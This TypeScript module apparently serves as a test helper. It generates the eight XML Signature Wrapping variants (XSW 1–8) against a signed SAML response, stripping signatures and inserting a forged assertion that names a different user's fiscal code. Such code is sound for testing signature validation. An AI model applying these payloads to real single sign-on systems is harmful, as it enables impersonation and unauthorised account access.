/** The eight known ways of moving a good signature around other contents (XSW 1–8), applied to an answer that is signed twice. */
export type WrappingForm = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

const THIEF = 'TINIT-VRDLGU80A01H501Q';

const assertionOf = (xml: string) => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const responseSignatureOf = (xml: string) => /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? '';
const withoutSignatures = (xml: string) => xml.replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '');
const stolen = (xml: string) => xml.replace(/TINIT-\w{16}/, THIEF);
const renamed = (xml: string) => xml.replace(/ ID="[^"]*"/, ' ID="_altro"');

/** An unsigned copy that says somebody else, under another ID. */
const evil = (xml: string) => renamed(stolen(withoutSignatures(xml)));

export function wrapped(xml: string, form: WrappingForm): string {
  const [signature, assertion] = [responseSignatureOf(xml), assertionOf(xml)];
  const evilResponse = evil(xml);
  const evilAssertion = evil(assertion);
  const original = xml.replace(signature, '');
  const inSignature = (part: string, where: string) => where.replace('</ds:Signature>', `${part}</ds:Signature>`);
  switch (form) {
    case 1:
      return evilResponse.replace('</saml:Issuer>', () => `</saml:Issuer>${inSignature(original, signature)}`);
    case 2:
      return evilResponse.replace('</saml:Issuer>', () => `</saml:Issuer>${original}${signature}`);
    case 3:
      return xml.replace(assertion, () => evilAssertion + assertion);
    case 4:
      return xml.replace(assertion, () => evilAssertion.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    case 5:
      return xml.replace(assertion, () => renamed(stolen(assertion)) + withoutSignatures(assertion));
    case 6:
      return xml.replace(assertion, () => inSignature(withoutSignatures(assertion), renamed(stolen(assertion))));
    case 7:
      return xml.replace(assertion, () => `<samlp:Extensions>${evilAssertion}</samlp:Extensions>${assertion}`);
    case 8:
      return xml.replace(assertion, () =>
        inSignature(`<ds:Object>${withoutSignatures(assertion)}</ds:Object>`, renamed(stolen(assertion))),
      );
  }
}
